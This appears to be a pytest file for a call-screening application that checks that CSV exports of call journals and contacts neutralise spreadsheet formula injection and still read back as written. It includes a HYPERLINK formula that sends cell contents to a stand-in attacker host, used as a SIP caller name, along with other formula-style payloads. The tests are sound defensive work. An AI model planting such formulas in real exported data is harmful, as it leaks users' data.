"""CSV written by the program never runs in a spreadsheet, and reads back as written."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customscreen import contacts
from customscreen.calls import journal
from customscreen.calls.routing import Mode
from customscreen.calls.switchboard import CallFinished, Switchboard
from customscreen.contacts import Contact, Phone, files
from customscreen.storage import spreadsheet
from customscreen.storage.store import Store
from telephony.sip.agent import open_url
from telephony.sip.probe import SipProbe
from tests.telephony.peers.harness import wait_until

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Dupont SARL")'


@pytest.mark.parametrize(("text", "written"), [
    ("=1+2", "'=1+2"), ("+33 5 36 49 01 23", "'+33 5 36 49 01 23"), ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"),
    ("Dupont SARL", "Dupont SARL"), ("", ""), ("a=b", "a=b"),
    ("'t Hooft", "'t Hooft"),  # a real apostrophe, before nothing dangerous
    ("'=x", "''=x"),  # a real apostrophe before a formula: guarded too, so it comes back
])
def test_cells_a_spreadsheet_would_run_are_guarded_and_come_back(text: str,
                                                                written: str) -> None:
    assert spreadsheet.cell(text) == written
    assert spreadsheet.plain(written) == text


def test_phone_numbers_in_their_own_columns_stay_as_they_are() -> None:
    for number in ("+33536490123", "+33536490123 / +33639981234", "0536490123", ""):
        assert spreadsheet.number_cell(number) == number
    assert spreadsheet.number_cell("=1+2") == "'=1+2"  # a number's column holds only numbers
    assert spreadsheet.number_cell("+33 HYPERLINK") == "'+33 HYPERLINK"


@given(st.text())
def test_any_text_is_safe_once_written_and_the_same_once_read(text: str) -> None:
    written = spreadsheet.cell(text)
    assert written[:1] not in spreadsheet.FORMULA_STARTS
    assert spreadsheet.plain(written) == text


def test_a_sip_caller_named_like_a_formula_is_journaled_and_exported_as_text(
        store: Store, tmp_path: Path) -> None:
    board = Switchboard(store, "FR", Mode.NORMAL)
    finished: list[CallFinished] = []
    board.add_observer(lambda n: finished.append(n) if isinstance(n, CallFinished) else None)
    line = open_url("sip-listen://127.0.0.1:0")
    board.attach(line)
    try:
        host, port = line.address
        with SipProbe(host, port, number="+33536490123", display_name=FORMULA) as probe:
            probe.invite()
            assert probe.wait_for(180, timeout=5) is not None
            probe.cancel()
            final = probe.wait_for(487, timeout=5)
            assert final is not None
            probe.ack(final.message)
        wait_until(lambda: bool(finished), 5, "the end of the SIP call")
    finally:
        board.stop()
    call_id = finished[0].call.id
    assert journal.get(store, call_id).network_name == FORMULA  # the journal keeps it as sent

    out = tmp_path / "calls.csv"
    assert journal.export_csv(store, out) == 1
    (row,) = csv.DictReader(out.open(encoding="utf-8", newline=""))
    assert row["network_name"] == "'" + FORMULA  # text to a spreadsheet
    assert (row["raw_number"], row["number"]) == ("+33536490123", "+33536490123")
    assert spreadsheet.plain(row["network_name"]) == FORMULA


def test_contacts_export_then_import_gives_the_same_text_back(store: Store,
                                                              tmp_path: Path) -> None:
    people = [
        Contact(name="=1+2", phones=[Phone("+33536490123")], notes="+33 5 36 49 01 23 le soir"),
        Contact(name="@SUM(A1)", notes="-5 sur la facture", fields={"=cmd": "@x 'à voir'"}),
        Contact(name="-5", notes="\tindenté", fields={"Remarque": "'=pas une formule"}),
        # A cell in single quotes would make csv.Sniffer take ' for the quote character.
        Contact(name="'t Hooft", notes="'Grand compte'", phones=[Phone("+33639981234",
                                                                       "mobile")]),
    ]
    for person in people:
        contacts.save(store, person)
    sheet = tmp_path / "contacts.csv"
    assert files.export_file(store, sheet) == len(people)

    rows = list(csv.reader(sheet.open(encoding="utf-8", newline="")))
    header = rows[0]
    assert "'=cmd" in header  # a custom field's name is data too
    phones = {header.index(c) for c in ("Phone", "Mobile", "Fax", "Other phone")}
    for row in rows[1:]:
        for n, text in enumerate(row):
            if n in phones:
                assert text == "" or text.startswith("+33"), text  # as is
            else:
                assert text[:1] not in spreadsheet.FORMULA_STARTS, (header[n], text)

    again = Store(tmp_path / "again.sqlite")
    try:
        assert files.import_file(again, sheet, "FR").imported == len(people)
        back = {c.name: c for c in files.all_contacts(again)}
        for person in people:
            read = back[person.name]
            assert (read.notes, read.fields, [p.e164 for p in read.phones]) == (
                person.notes, person.fields, [p.e164 for p in person.phones])
    finally:
        again.close()
